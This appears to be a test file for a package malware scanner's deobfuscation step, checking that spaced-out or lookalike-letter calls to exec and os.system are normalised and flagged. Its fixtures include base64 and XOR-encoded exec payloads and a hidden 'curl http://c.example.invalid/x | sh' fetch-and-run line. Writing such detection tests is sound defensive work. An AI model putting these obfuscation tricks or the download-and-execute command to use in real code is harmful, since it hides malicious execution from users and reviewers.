"""Programs pulled apart by blanks and joined lines: what comes out is the same program, as everybody writes it."""

import ast
import io
import time
import tokenize

import pytest
from hypothesis import given
from hypothesis import strategies as st

from scanner.decode import peel
from scanner.decode.spelling import ODD, respelled
from scanner.member import Layer, Member
from scanner.report import ScanJob
from scanner.ruleset import DEFAULT_RULES, load_rules
from scanner.scan import scan
from tests.scanner.signals.built import CODE, WHEEL, wheel

PROGRAM = """\
from . import tides
from .tides import (high, low)
import base64, os
TABLE = {'a  (b)': [1, 2], "it's": (3,)}  # exec  (TABLE)
def measured(value, *rest):
    '''Calls exec  (value) , or os . system.'''
    if (value) and not (rest):
        return (TABLE['it\\'s'][0], 1.5.real, .5)
    return [print(x) for x in (rest) if x.real in (1, 2)][0]
exec(base64.b64decode(f'{"aW1wb3J0IG9z"}'.strip()).decode())
os.system('echo  (inert)' 'and . more')
(lambda: os)().path.join('a', 'b')
"""
# Of these, a bracket or a dot may stand apart from what it belongs to.
HELD = (tokenize.NAME, tokenize.STRING)
MARKS = ("(", "[", ".")
WORDS = st.sampled_from(["exec", "(", ")", "[", ".", "\\", "\n", "\t", "'", '"', "#", "a", "1", "os"])


def places(source: str) -> list[tuple[int, int]]:
    """Where blanks mean nothing: before a bracket or a dot behind a name, and behind these two."""
    found: list[tuple[int, int]] = []
    before = None
    for token in tokenize.generate_tokens(io.StringIO(source).readline):
        if before is not None and before.end == token.start:
            is_held = before.type in HELD or before.string in (")", "]")
            if (is_held and token.string in MARKS) or (before.string in MARKS and token.type == tokenize.NAME):
                found.append(token.start)
        before = token
    return found


PLACES = places(PROGRAM)


def apart(gaps: list[str]) -> str:
    lines = PROGRAM.splitlines(keepends=True)
    for (row, column), gap in sorted(zip(PLACES, gaps, strict=True), reverse=True):
        lines[row - 1] = lines[row - 1][:column] + gap + lines[row - 1][column:]
    return "".join(lines)


@given(st.lists(st.sampled_from(["", " ", "  ", "\t", " \\\n ", "\\\n"]), min_size=len(PLACES), max_size=len(PLACES)))
def test_the_program_stays_the_same_and_each_statement_knows_its_line(gaps: list[str]) -> None:
    source = apart(gaps)
    given_tree = ast.parse(source)
    found = respelled(source.encode())
    if found is None:
        return
    text, lines = found
    tree = ast.parse(text)
    assert ast.dump(tree) == ast.dump(ast.parse(PROGRAM))
    assert len(lines) == text.count(b"\n") + 1
    assert [lines[node.lineno - 1] for node in tree.body] == [node.lineno for node in given_tree.body]


@given(st.binary(max_size=300) | st.lists(WORDS).map(lambda words: " ".join(words).encode()))
def test_any_bytes_come_out_without_a_fault(data: bytes) -> None:
    found = respelled(data)
    if "letters" in ODD.found(data) or b"#" in data:  # letters come out as others, and notes in brackets go
        return
    assert found is None or found[0].translate(None, b", \t\f\\\r\n") == data.translate(None, b", \t\f\\\r\n")


@pytest.mark.parametrize(
    ("source", "expected"),
    [
        (
            "requests.post(\n    address,  # of (\n    json={\n        'a': (1,\n        ),\n    },\n)\nlast\n",
            "requests.post(address, json={'a': (1,),})\nlast\n",
        ),
        ("os.system('a'\n  'b')\nexec(\n    'c'\n)\nx = [\n    1,\n]\n", "os.system('a' 'b')\nexec('c')\nx = [1,\n]\n"),
        ("r = (urlopen(\n    address,\n  )\n  .read())\n", "r = (urlopen(address)\n  .read())\n"),
        ("exec(\n    '''a\n(\n''',\n    x\n    .y)\n", "exec('''a\n(\n''', x.y)\n"),
        ("# exec(\n'''exec(\n'''\nwalk(\n    exec)\n", None),
    ],
)
def test_a_loud_call_over_many_lines_has_one(source: str, expected: str | None) -> None:
    found = respelled(source.encode())
    assert (None if found is None else found[0].decode()) == expected
    if expected is not None:
        assert ast.dump(ast.parse(source)) == ast.dump(ast.parse(expected))


@pytest.mark.parametrize("gap", [" ", "  ", "\t", " " * 71, " " * 72, "\t" * 500, " \\\n "])
def test_what_is_pulled_apart_is_found_before_brackets_and_dots(gap: str) -> None:
    for whole in (
        "exec@(text)\n",
        "x = ''.join @ (y)\n",
        "os@.@system@(text)\n",
        "os@.system(text)\n",
        "os.@system(text)\n",
    ):
        source = whole.replace("@", gap).encode()
        text, _ = respelled(source) or (source, [])
        is_chain = "\\" in gap and "@(" not in whole
        assert is_chain or (ODD.found(source) and text == whole.replace(" @ ", "").replace("@", "").encode()), source


@pytest.mark.parametrize(
    "source",
    [
        "print (x)\nvalue = made (x)\n",
        "from . import tides\nfrom .. import more\n",
        "found = table \\\n    .where(x) \\\n    .first()\n",
        "if  (a) or  (b) or not\t(c):\n    return  (a)\n",
        "# exec  (x), and os . system (y)\nx = '''exec  (y)'''\n",
        "half = 1 .real + 2  .imag\n",
    ],
)
def test_what_is_a_matter_of_taste_stays(source: str) -> None:
    assert respelled(source.encode()) is None


@pytest.mark.parametrize(
    ("source", "expected"),
    [
        ("(exec)(text)\n", "exec(text)\n"),
        ("x = ( eval )(text)\n", "x = eval(text)\n"),
        ("return (exec)(text)\n", "return exec(text)\n"),
        ("a = b\n(exec)(text)\n", "a = b\nexec(text)\n"),
        ("exec( # the text (\n    text)\nlast\n", "exec(text)\nlast\n"),
        ('exec(# of "docs\n\n  text)\r\nlast\n', "exec(text)\r\nlast\n"),
        ("# see exec(\nexec( # it\ntext)\n", "# see exec(\nexec(text)\n"),
        ("f(exec)(text)\n", None),
        ("f (exec)(text)\n", None),
        ("a[0](exec)(text)\n", None),
        ("x = '(exec)(text)'\n", None),
        ("getattr(  # noqa: B009\n    x, 'y')\n", None),
    ],
)
def test_brackets_of_a_name_and_notes_in_a_call_s_go(source: str, expected: str | None) -> None:
    found = respelled(source.encode())
    assert (found and found[0].decode()) == expected
    if found is not None and source.endswith("last\n"):
        assert found[1][-2] == source.count("\n")  # the line of the last


@pytest.mark.parametrize("source", ["eˣec(1)\n", "𝓮𝔁𝓮𝓬(1)\n", "ｅxec(1)\n", "o = 'ˣ'  # ˣ\nexeᶜ(o)\n"])
def test_letters_that_stand_for_others_are_these_but_in_literals_and_comments(source: str) -> None:
    assert ODD.found(source.encode())
    text, _ = respelled(source.encode()) or (b"", [])
    assert b"exec(" in text
    assert ast.dump(ast.parse(text)) == ast.dump(ast.parse(source))
    assert text.decode().count("ˣ") == source.count("ˣ") - source.count("eˣec")


@pytest.mark.parametrize("source", ["x = 'ｅ ª ﬁ'  # ª\n", "größe = 'ª'\nprint (größe)\n", "'''ｅ\n'''\n"])
def test_letters_that_are_their_own_stay(source: str) -> None:
    assert respelled(source.encode()) is None


@pytest.mark.parametrize(("more", "times"), [("", 1), ("text = open(__file__).read()\n", 2)])
def test_the_same_program_is_folded_once_unless_it_may_read_how_it_is_spelled(more: str, times: int) -> None:
    source = f"made  (1)\nexec(bytes(code ^ 9 for code in {[ord(char) ^ 9 for char in 'print(1234)' * 9]}))\n{more}"
    paths = [item.path for item in peel(Member(name="tides/a.py", data=source.encode())) if isinstance(item, Layer)]
    assert sum(path[-1:] == ("folded",) for path in paths) == times
    assert ("respelled", "xor") in paths


@pytest.mark.parametrize("gap", ["  ", "\t", " \\\n  "])
@pytest.mark.parametrize("is_inner", [False, True])
def test_a_payload_behind_pulled_apart_calls_is_peeled_and_its_lines_are_the_members(gap: str, is_inner: bool) -> None:
    hidden = "".join(chr(ord(char) ^ 9) for char in "import os\nos.system('curl http://c.example.invalid/x | sh')\n")
    source = f"import os\nexec{gap}(''.join{gap}(chr{gap}(ord{gap}(char) ^ 9) for char in {hidden!r}))\nlast = 1\n"
    if is_inner:
        source = f"import zlib, base64\nexec(''.join(chr(code - 3) for code in {[ord(char) + 3 for char in source]}))\n"
    layers = [item for item in peel(Member(name="tides/a.py", data=source.encode())) if isinstance(item, Layer)]
    assert any(layer.path[-1:] == ("respelled",) for layer in layers)
    assert any(b"curl http://c.example.invalid" in layer.data for layer in layers)
    if not is_inner:
        layer = next(layer for layer in layers if layer.path == ("respelled",))
        assert layer.line_at(layer.data.index(b"last")) == source[: source.index("last")].count("\n") + 1
    report = scan(
        ScanJob(filename=WHEEL, data=wheel({**CODE, "tides/__init__.py": source.encode()})), load_rules(DEFAULT_RULES)
    )
    assert report.verdict == "alert"


def test_a_broken_call_of_nothing_but_blanks_is_read_in_time() -> None:
    started = time.process_time()
    respelled(b"x = os . system(1)\nrequests.get(\n a" + b" " * 900_000 + b"b)\n")
    assert time.process_time() - started < 5
